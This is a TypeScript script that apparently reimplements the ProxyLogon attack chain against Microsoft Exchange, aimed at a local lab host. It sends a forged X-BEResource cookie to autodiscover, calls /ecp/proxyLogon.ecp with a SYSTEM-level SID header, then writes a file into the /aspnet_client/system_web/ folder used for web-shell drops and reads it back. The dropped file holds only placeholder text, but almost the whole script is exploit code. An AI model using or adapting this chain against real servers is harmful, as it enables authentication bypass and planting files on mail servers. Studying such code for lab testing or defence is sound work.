// TypeScript port (axios), every magic value a named constant spliced into template literals.
import axios, { AxiosRequestConfig } from 'axios';

const port: number = Number(process.argv[2] ?? '8080');
const baseURL = `http://127.0.0.1:${port}`;

const CHROME_BUILD = '4324.190';
const CHROME_MAJOR = 88;
const USER_AGENT = `Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${CHROME_MAJOR}.0.${CHROME_BUILD} Safari/537.36`;
const DOMAIN = 'lab.invalid';
const MAILBOX = 'administrator@' + DOMAIN;
const TICKET = 1843073522;
const NOTE_NUMBER = 91453;
const NOTE_DIR = '/aspnet_client/system_web/';
const NOTE_PATH = NOTE_DIR + 'readme_' + NOTE_NUMBER + '.txt';
const REQ_ID_DATE = '20200302';
const REQ_ID_SEQ = 7720;
const PAD = 37;

const browserHeaders: Record<string, string> = {
  'User-Agent': USER_AGENT,
  'x-requested-with': 'XMLHttpRequest',
  Accept: '*/*',
  'accept-language': 'en-US,en;q=0.9',
  connection: 'close',
};

function cookie(): string {
  const backend = `localhost@${DOMAIN}/ews/exchange.asmx?a%3D~${TICKET}`;
  return `X-AnonResource=true; X-AnonResource-Backend=${DOMAIN}; X-BEResource=${backend}`;
}

async function main(): Promise<void> {
  const http = axios.create({ baseURL, timeout: 10_000, validateStatus: () => true });
  const query = `Pad=${'A'.repeat(PAD)}&Protocol=Autodiscoverv1&Email=${encodeURIComponent(MAILBOX + '/mapi/nspi')}&RequestId=${REQ_ID_DATE}-${REQ_ID_SEQ}`;
  const probe = await http.get(`/autodiscover/autodiscover.json?${query}`, {
    headers: { ...browserHeaders, cookie: cookie() },
  } as AxiosRequestConfig);
  if (probe.status >= 500) process.exit(1);

  const ident = await http.post(
    '/ecp/proxyLogon.ecp',
    `{"mailbox": "${MAILBOX}", "requestKind": "identity", "seq": 1}`,
    {
      headers: {
        'user-agent': USER_AGENT,
        msexchlogonmailbox: 'S-1-5-20',
        'content-type': 'application/json',
        'X-BEResource': `localhost@${DOMAIN}/ecp/proxyLogon.ecp`,
      },
    },
  );
  const who: string = String(ident.data).trim() || 'anonymous';
  const text = [1, 2, 3].map((i) => `note ${i} of 3 for ${who}`).join('\n');
  await http.post(NOTE_PATH, text, {
    headers: { 'user-agent': USER_AGENT, 'X-Note-Path': NOTE_PATH, 'Content-Type': 'text/plain' },
  });
  const check = await http.get(NOTE_PATH, { headers: browserHeaders });
  console.log(String(check.data).length);
}

main();
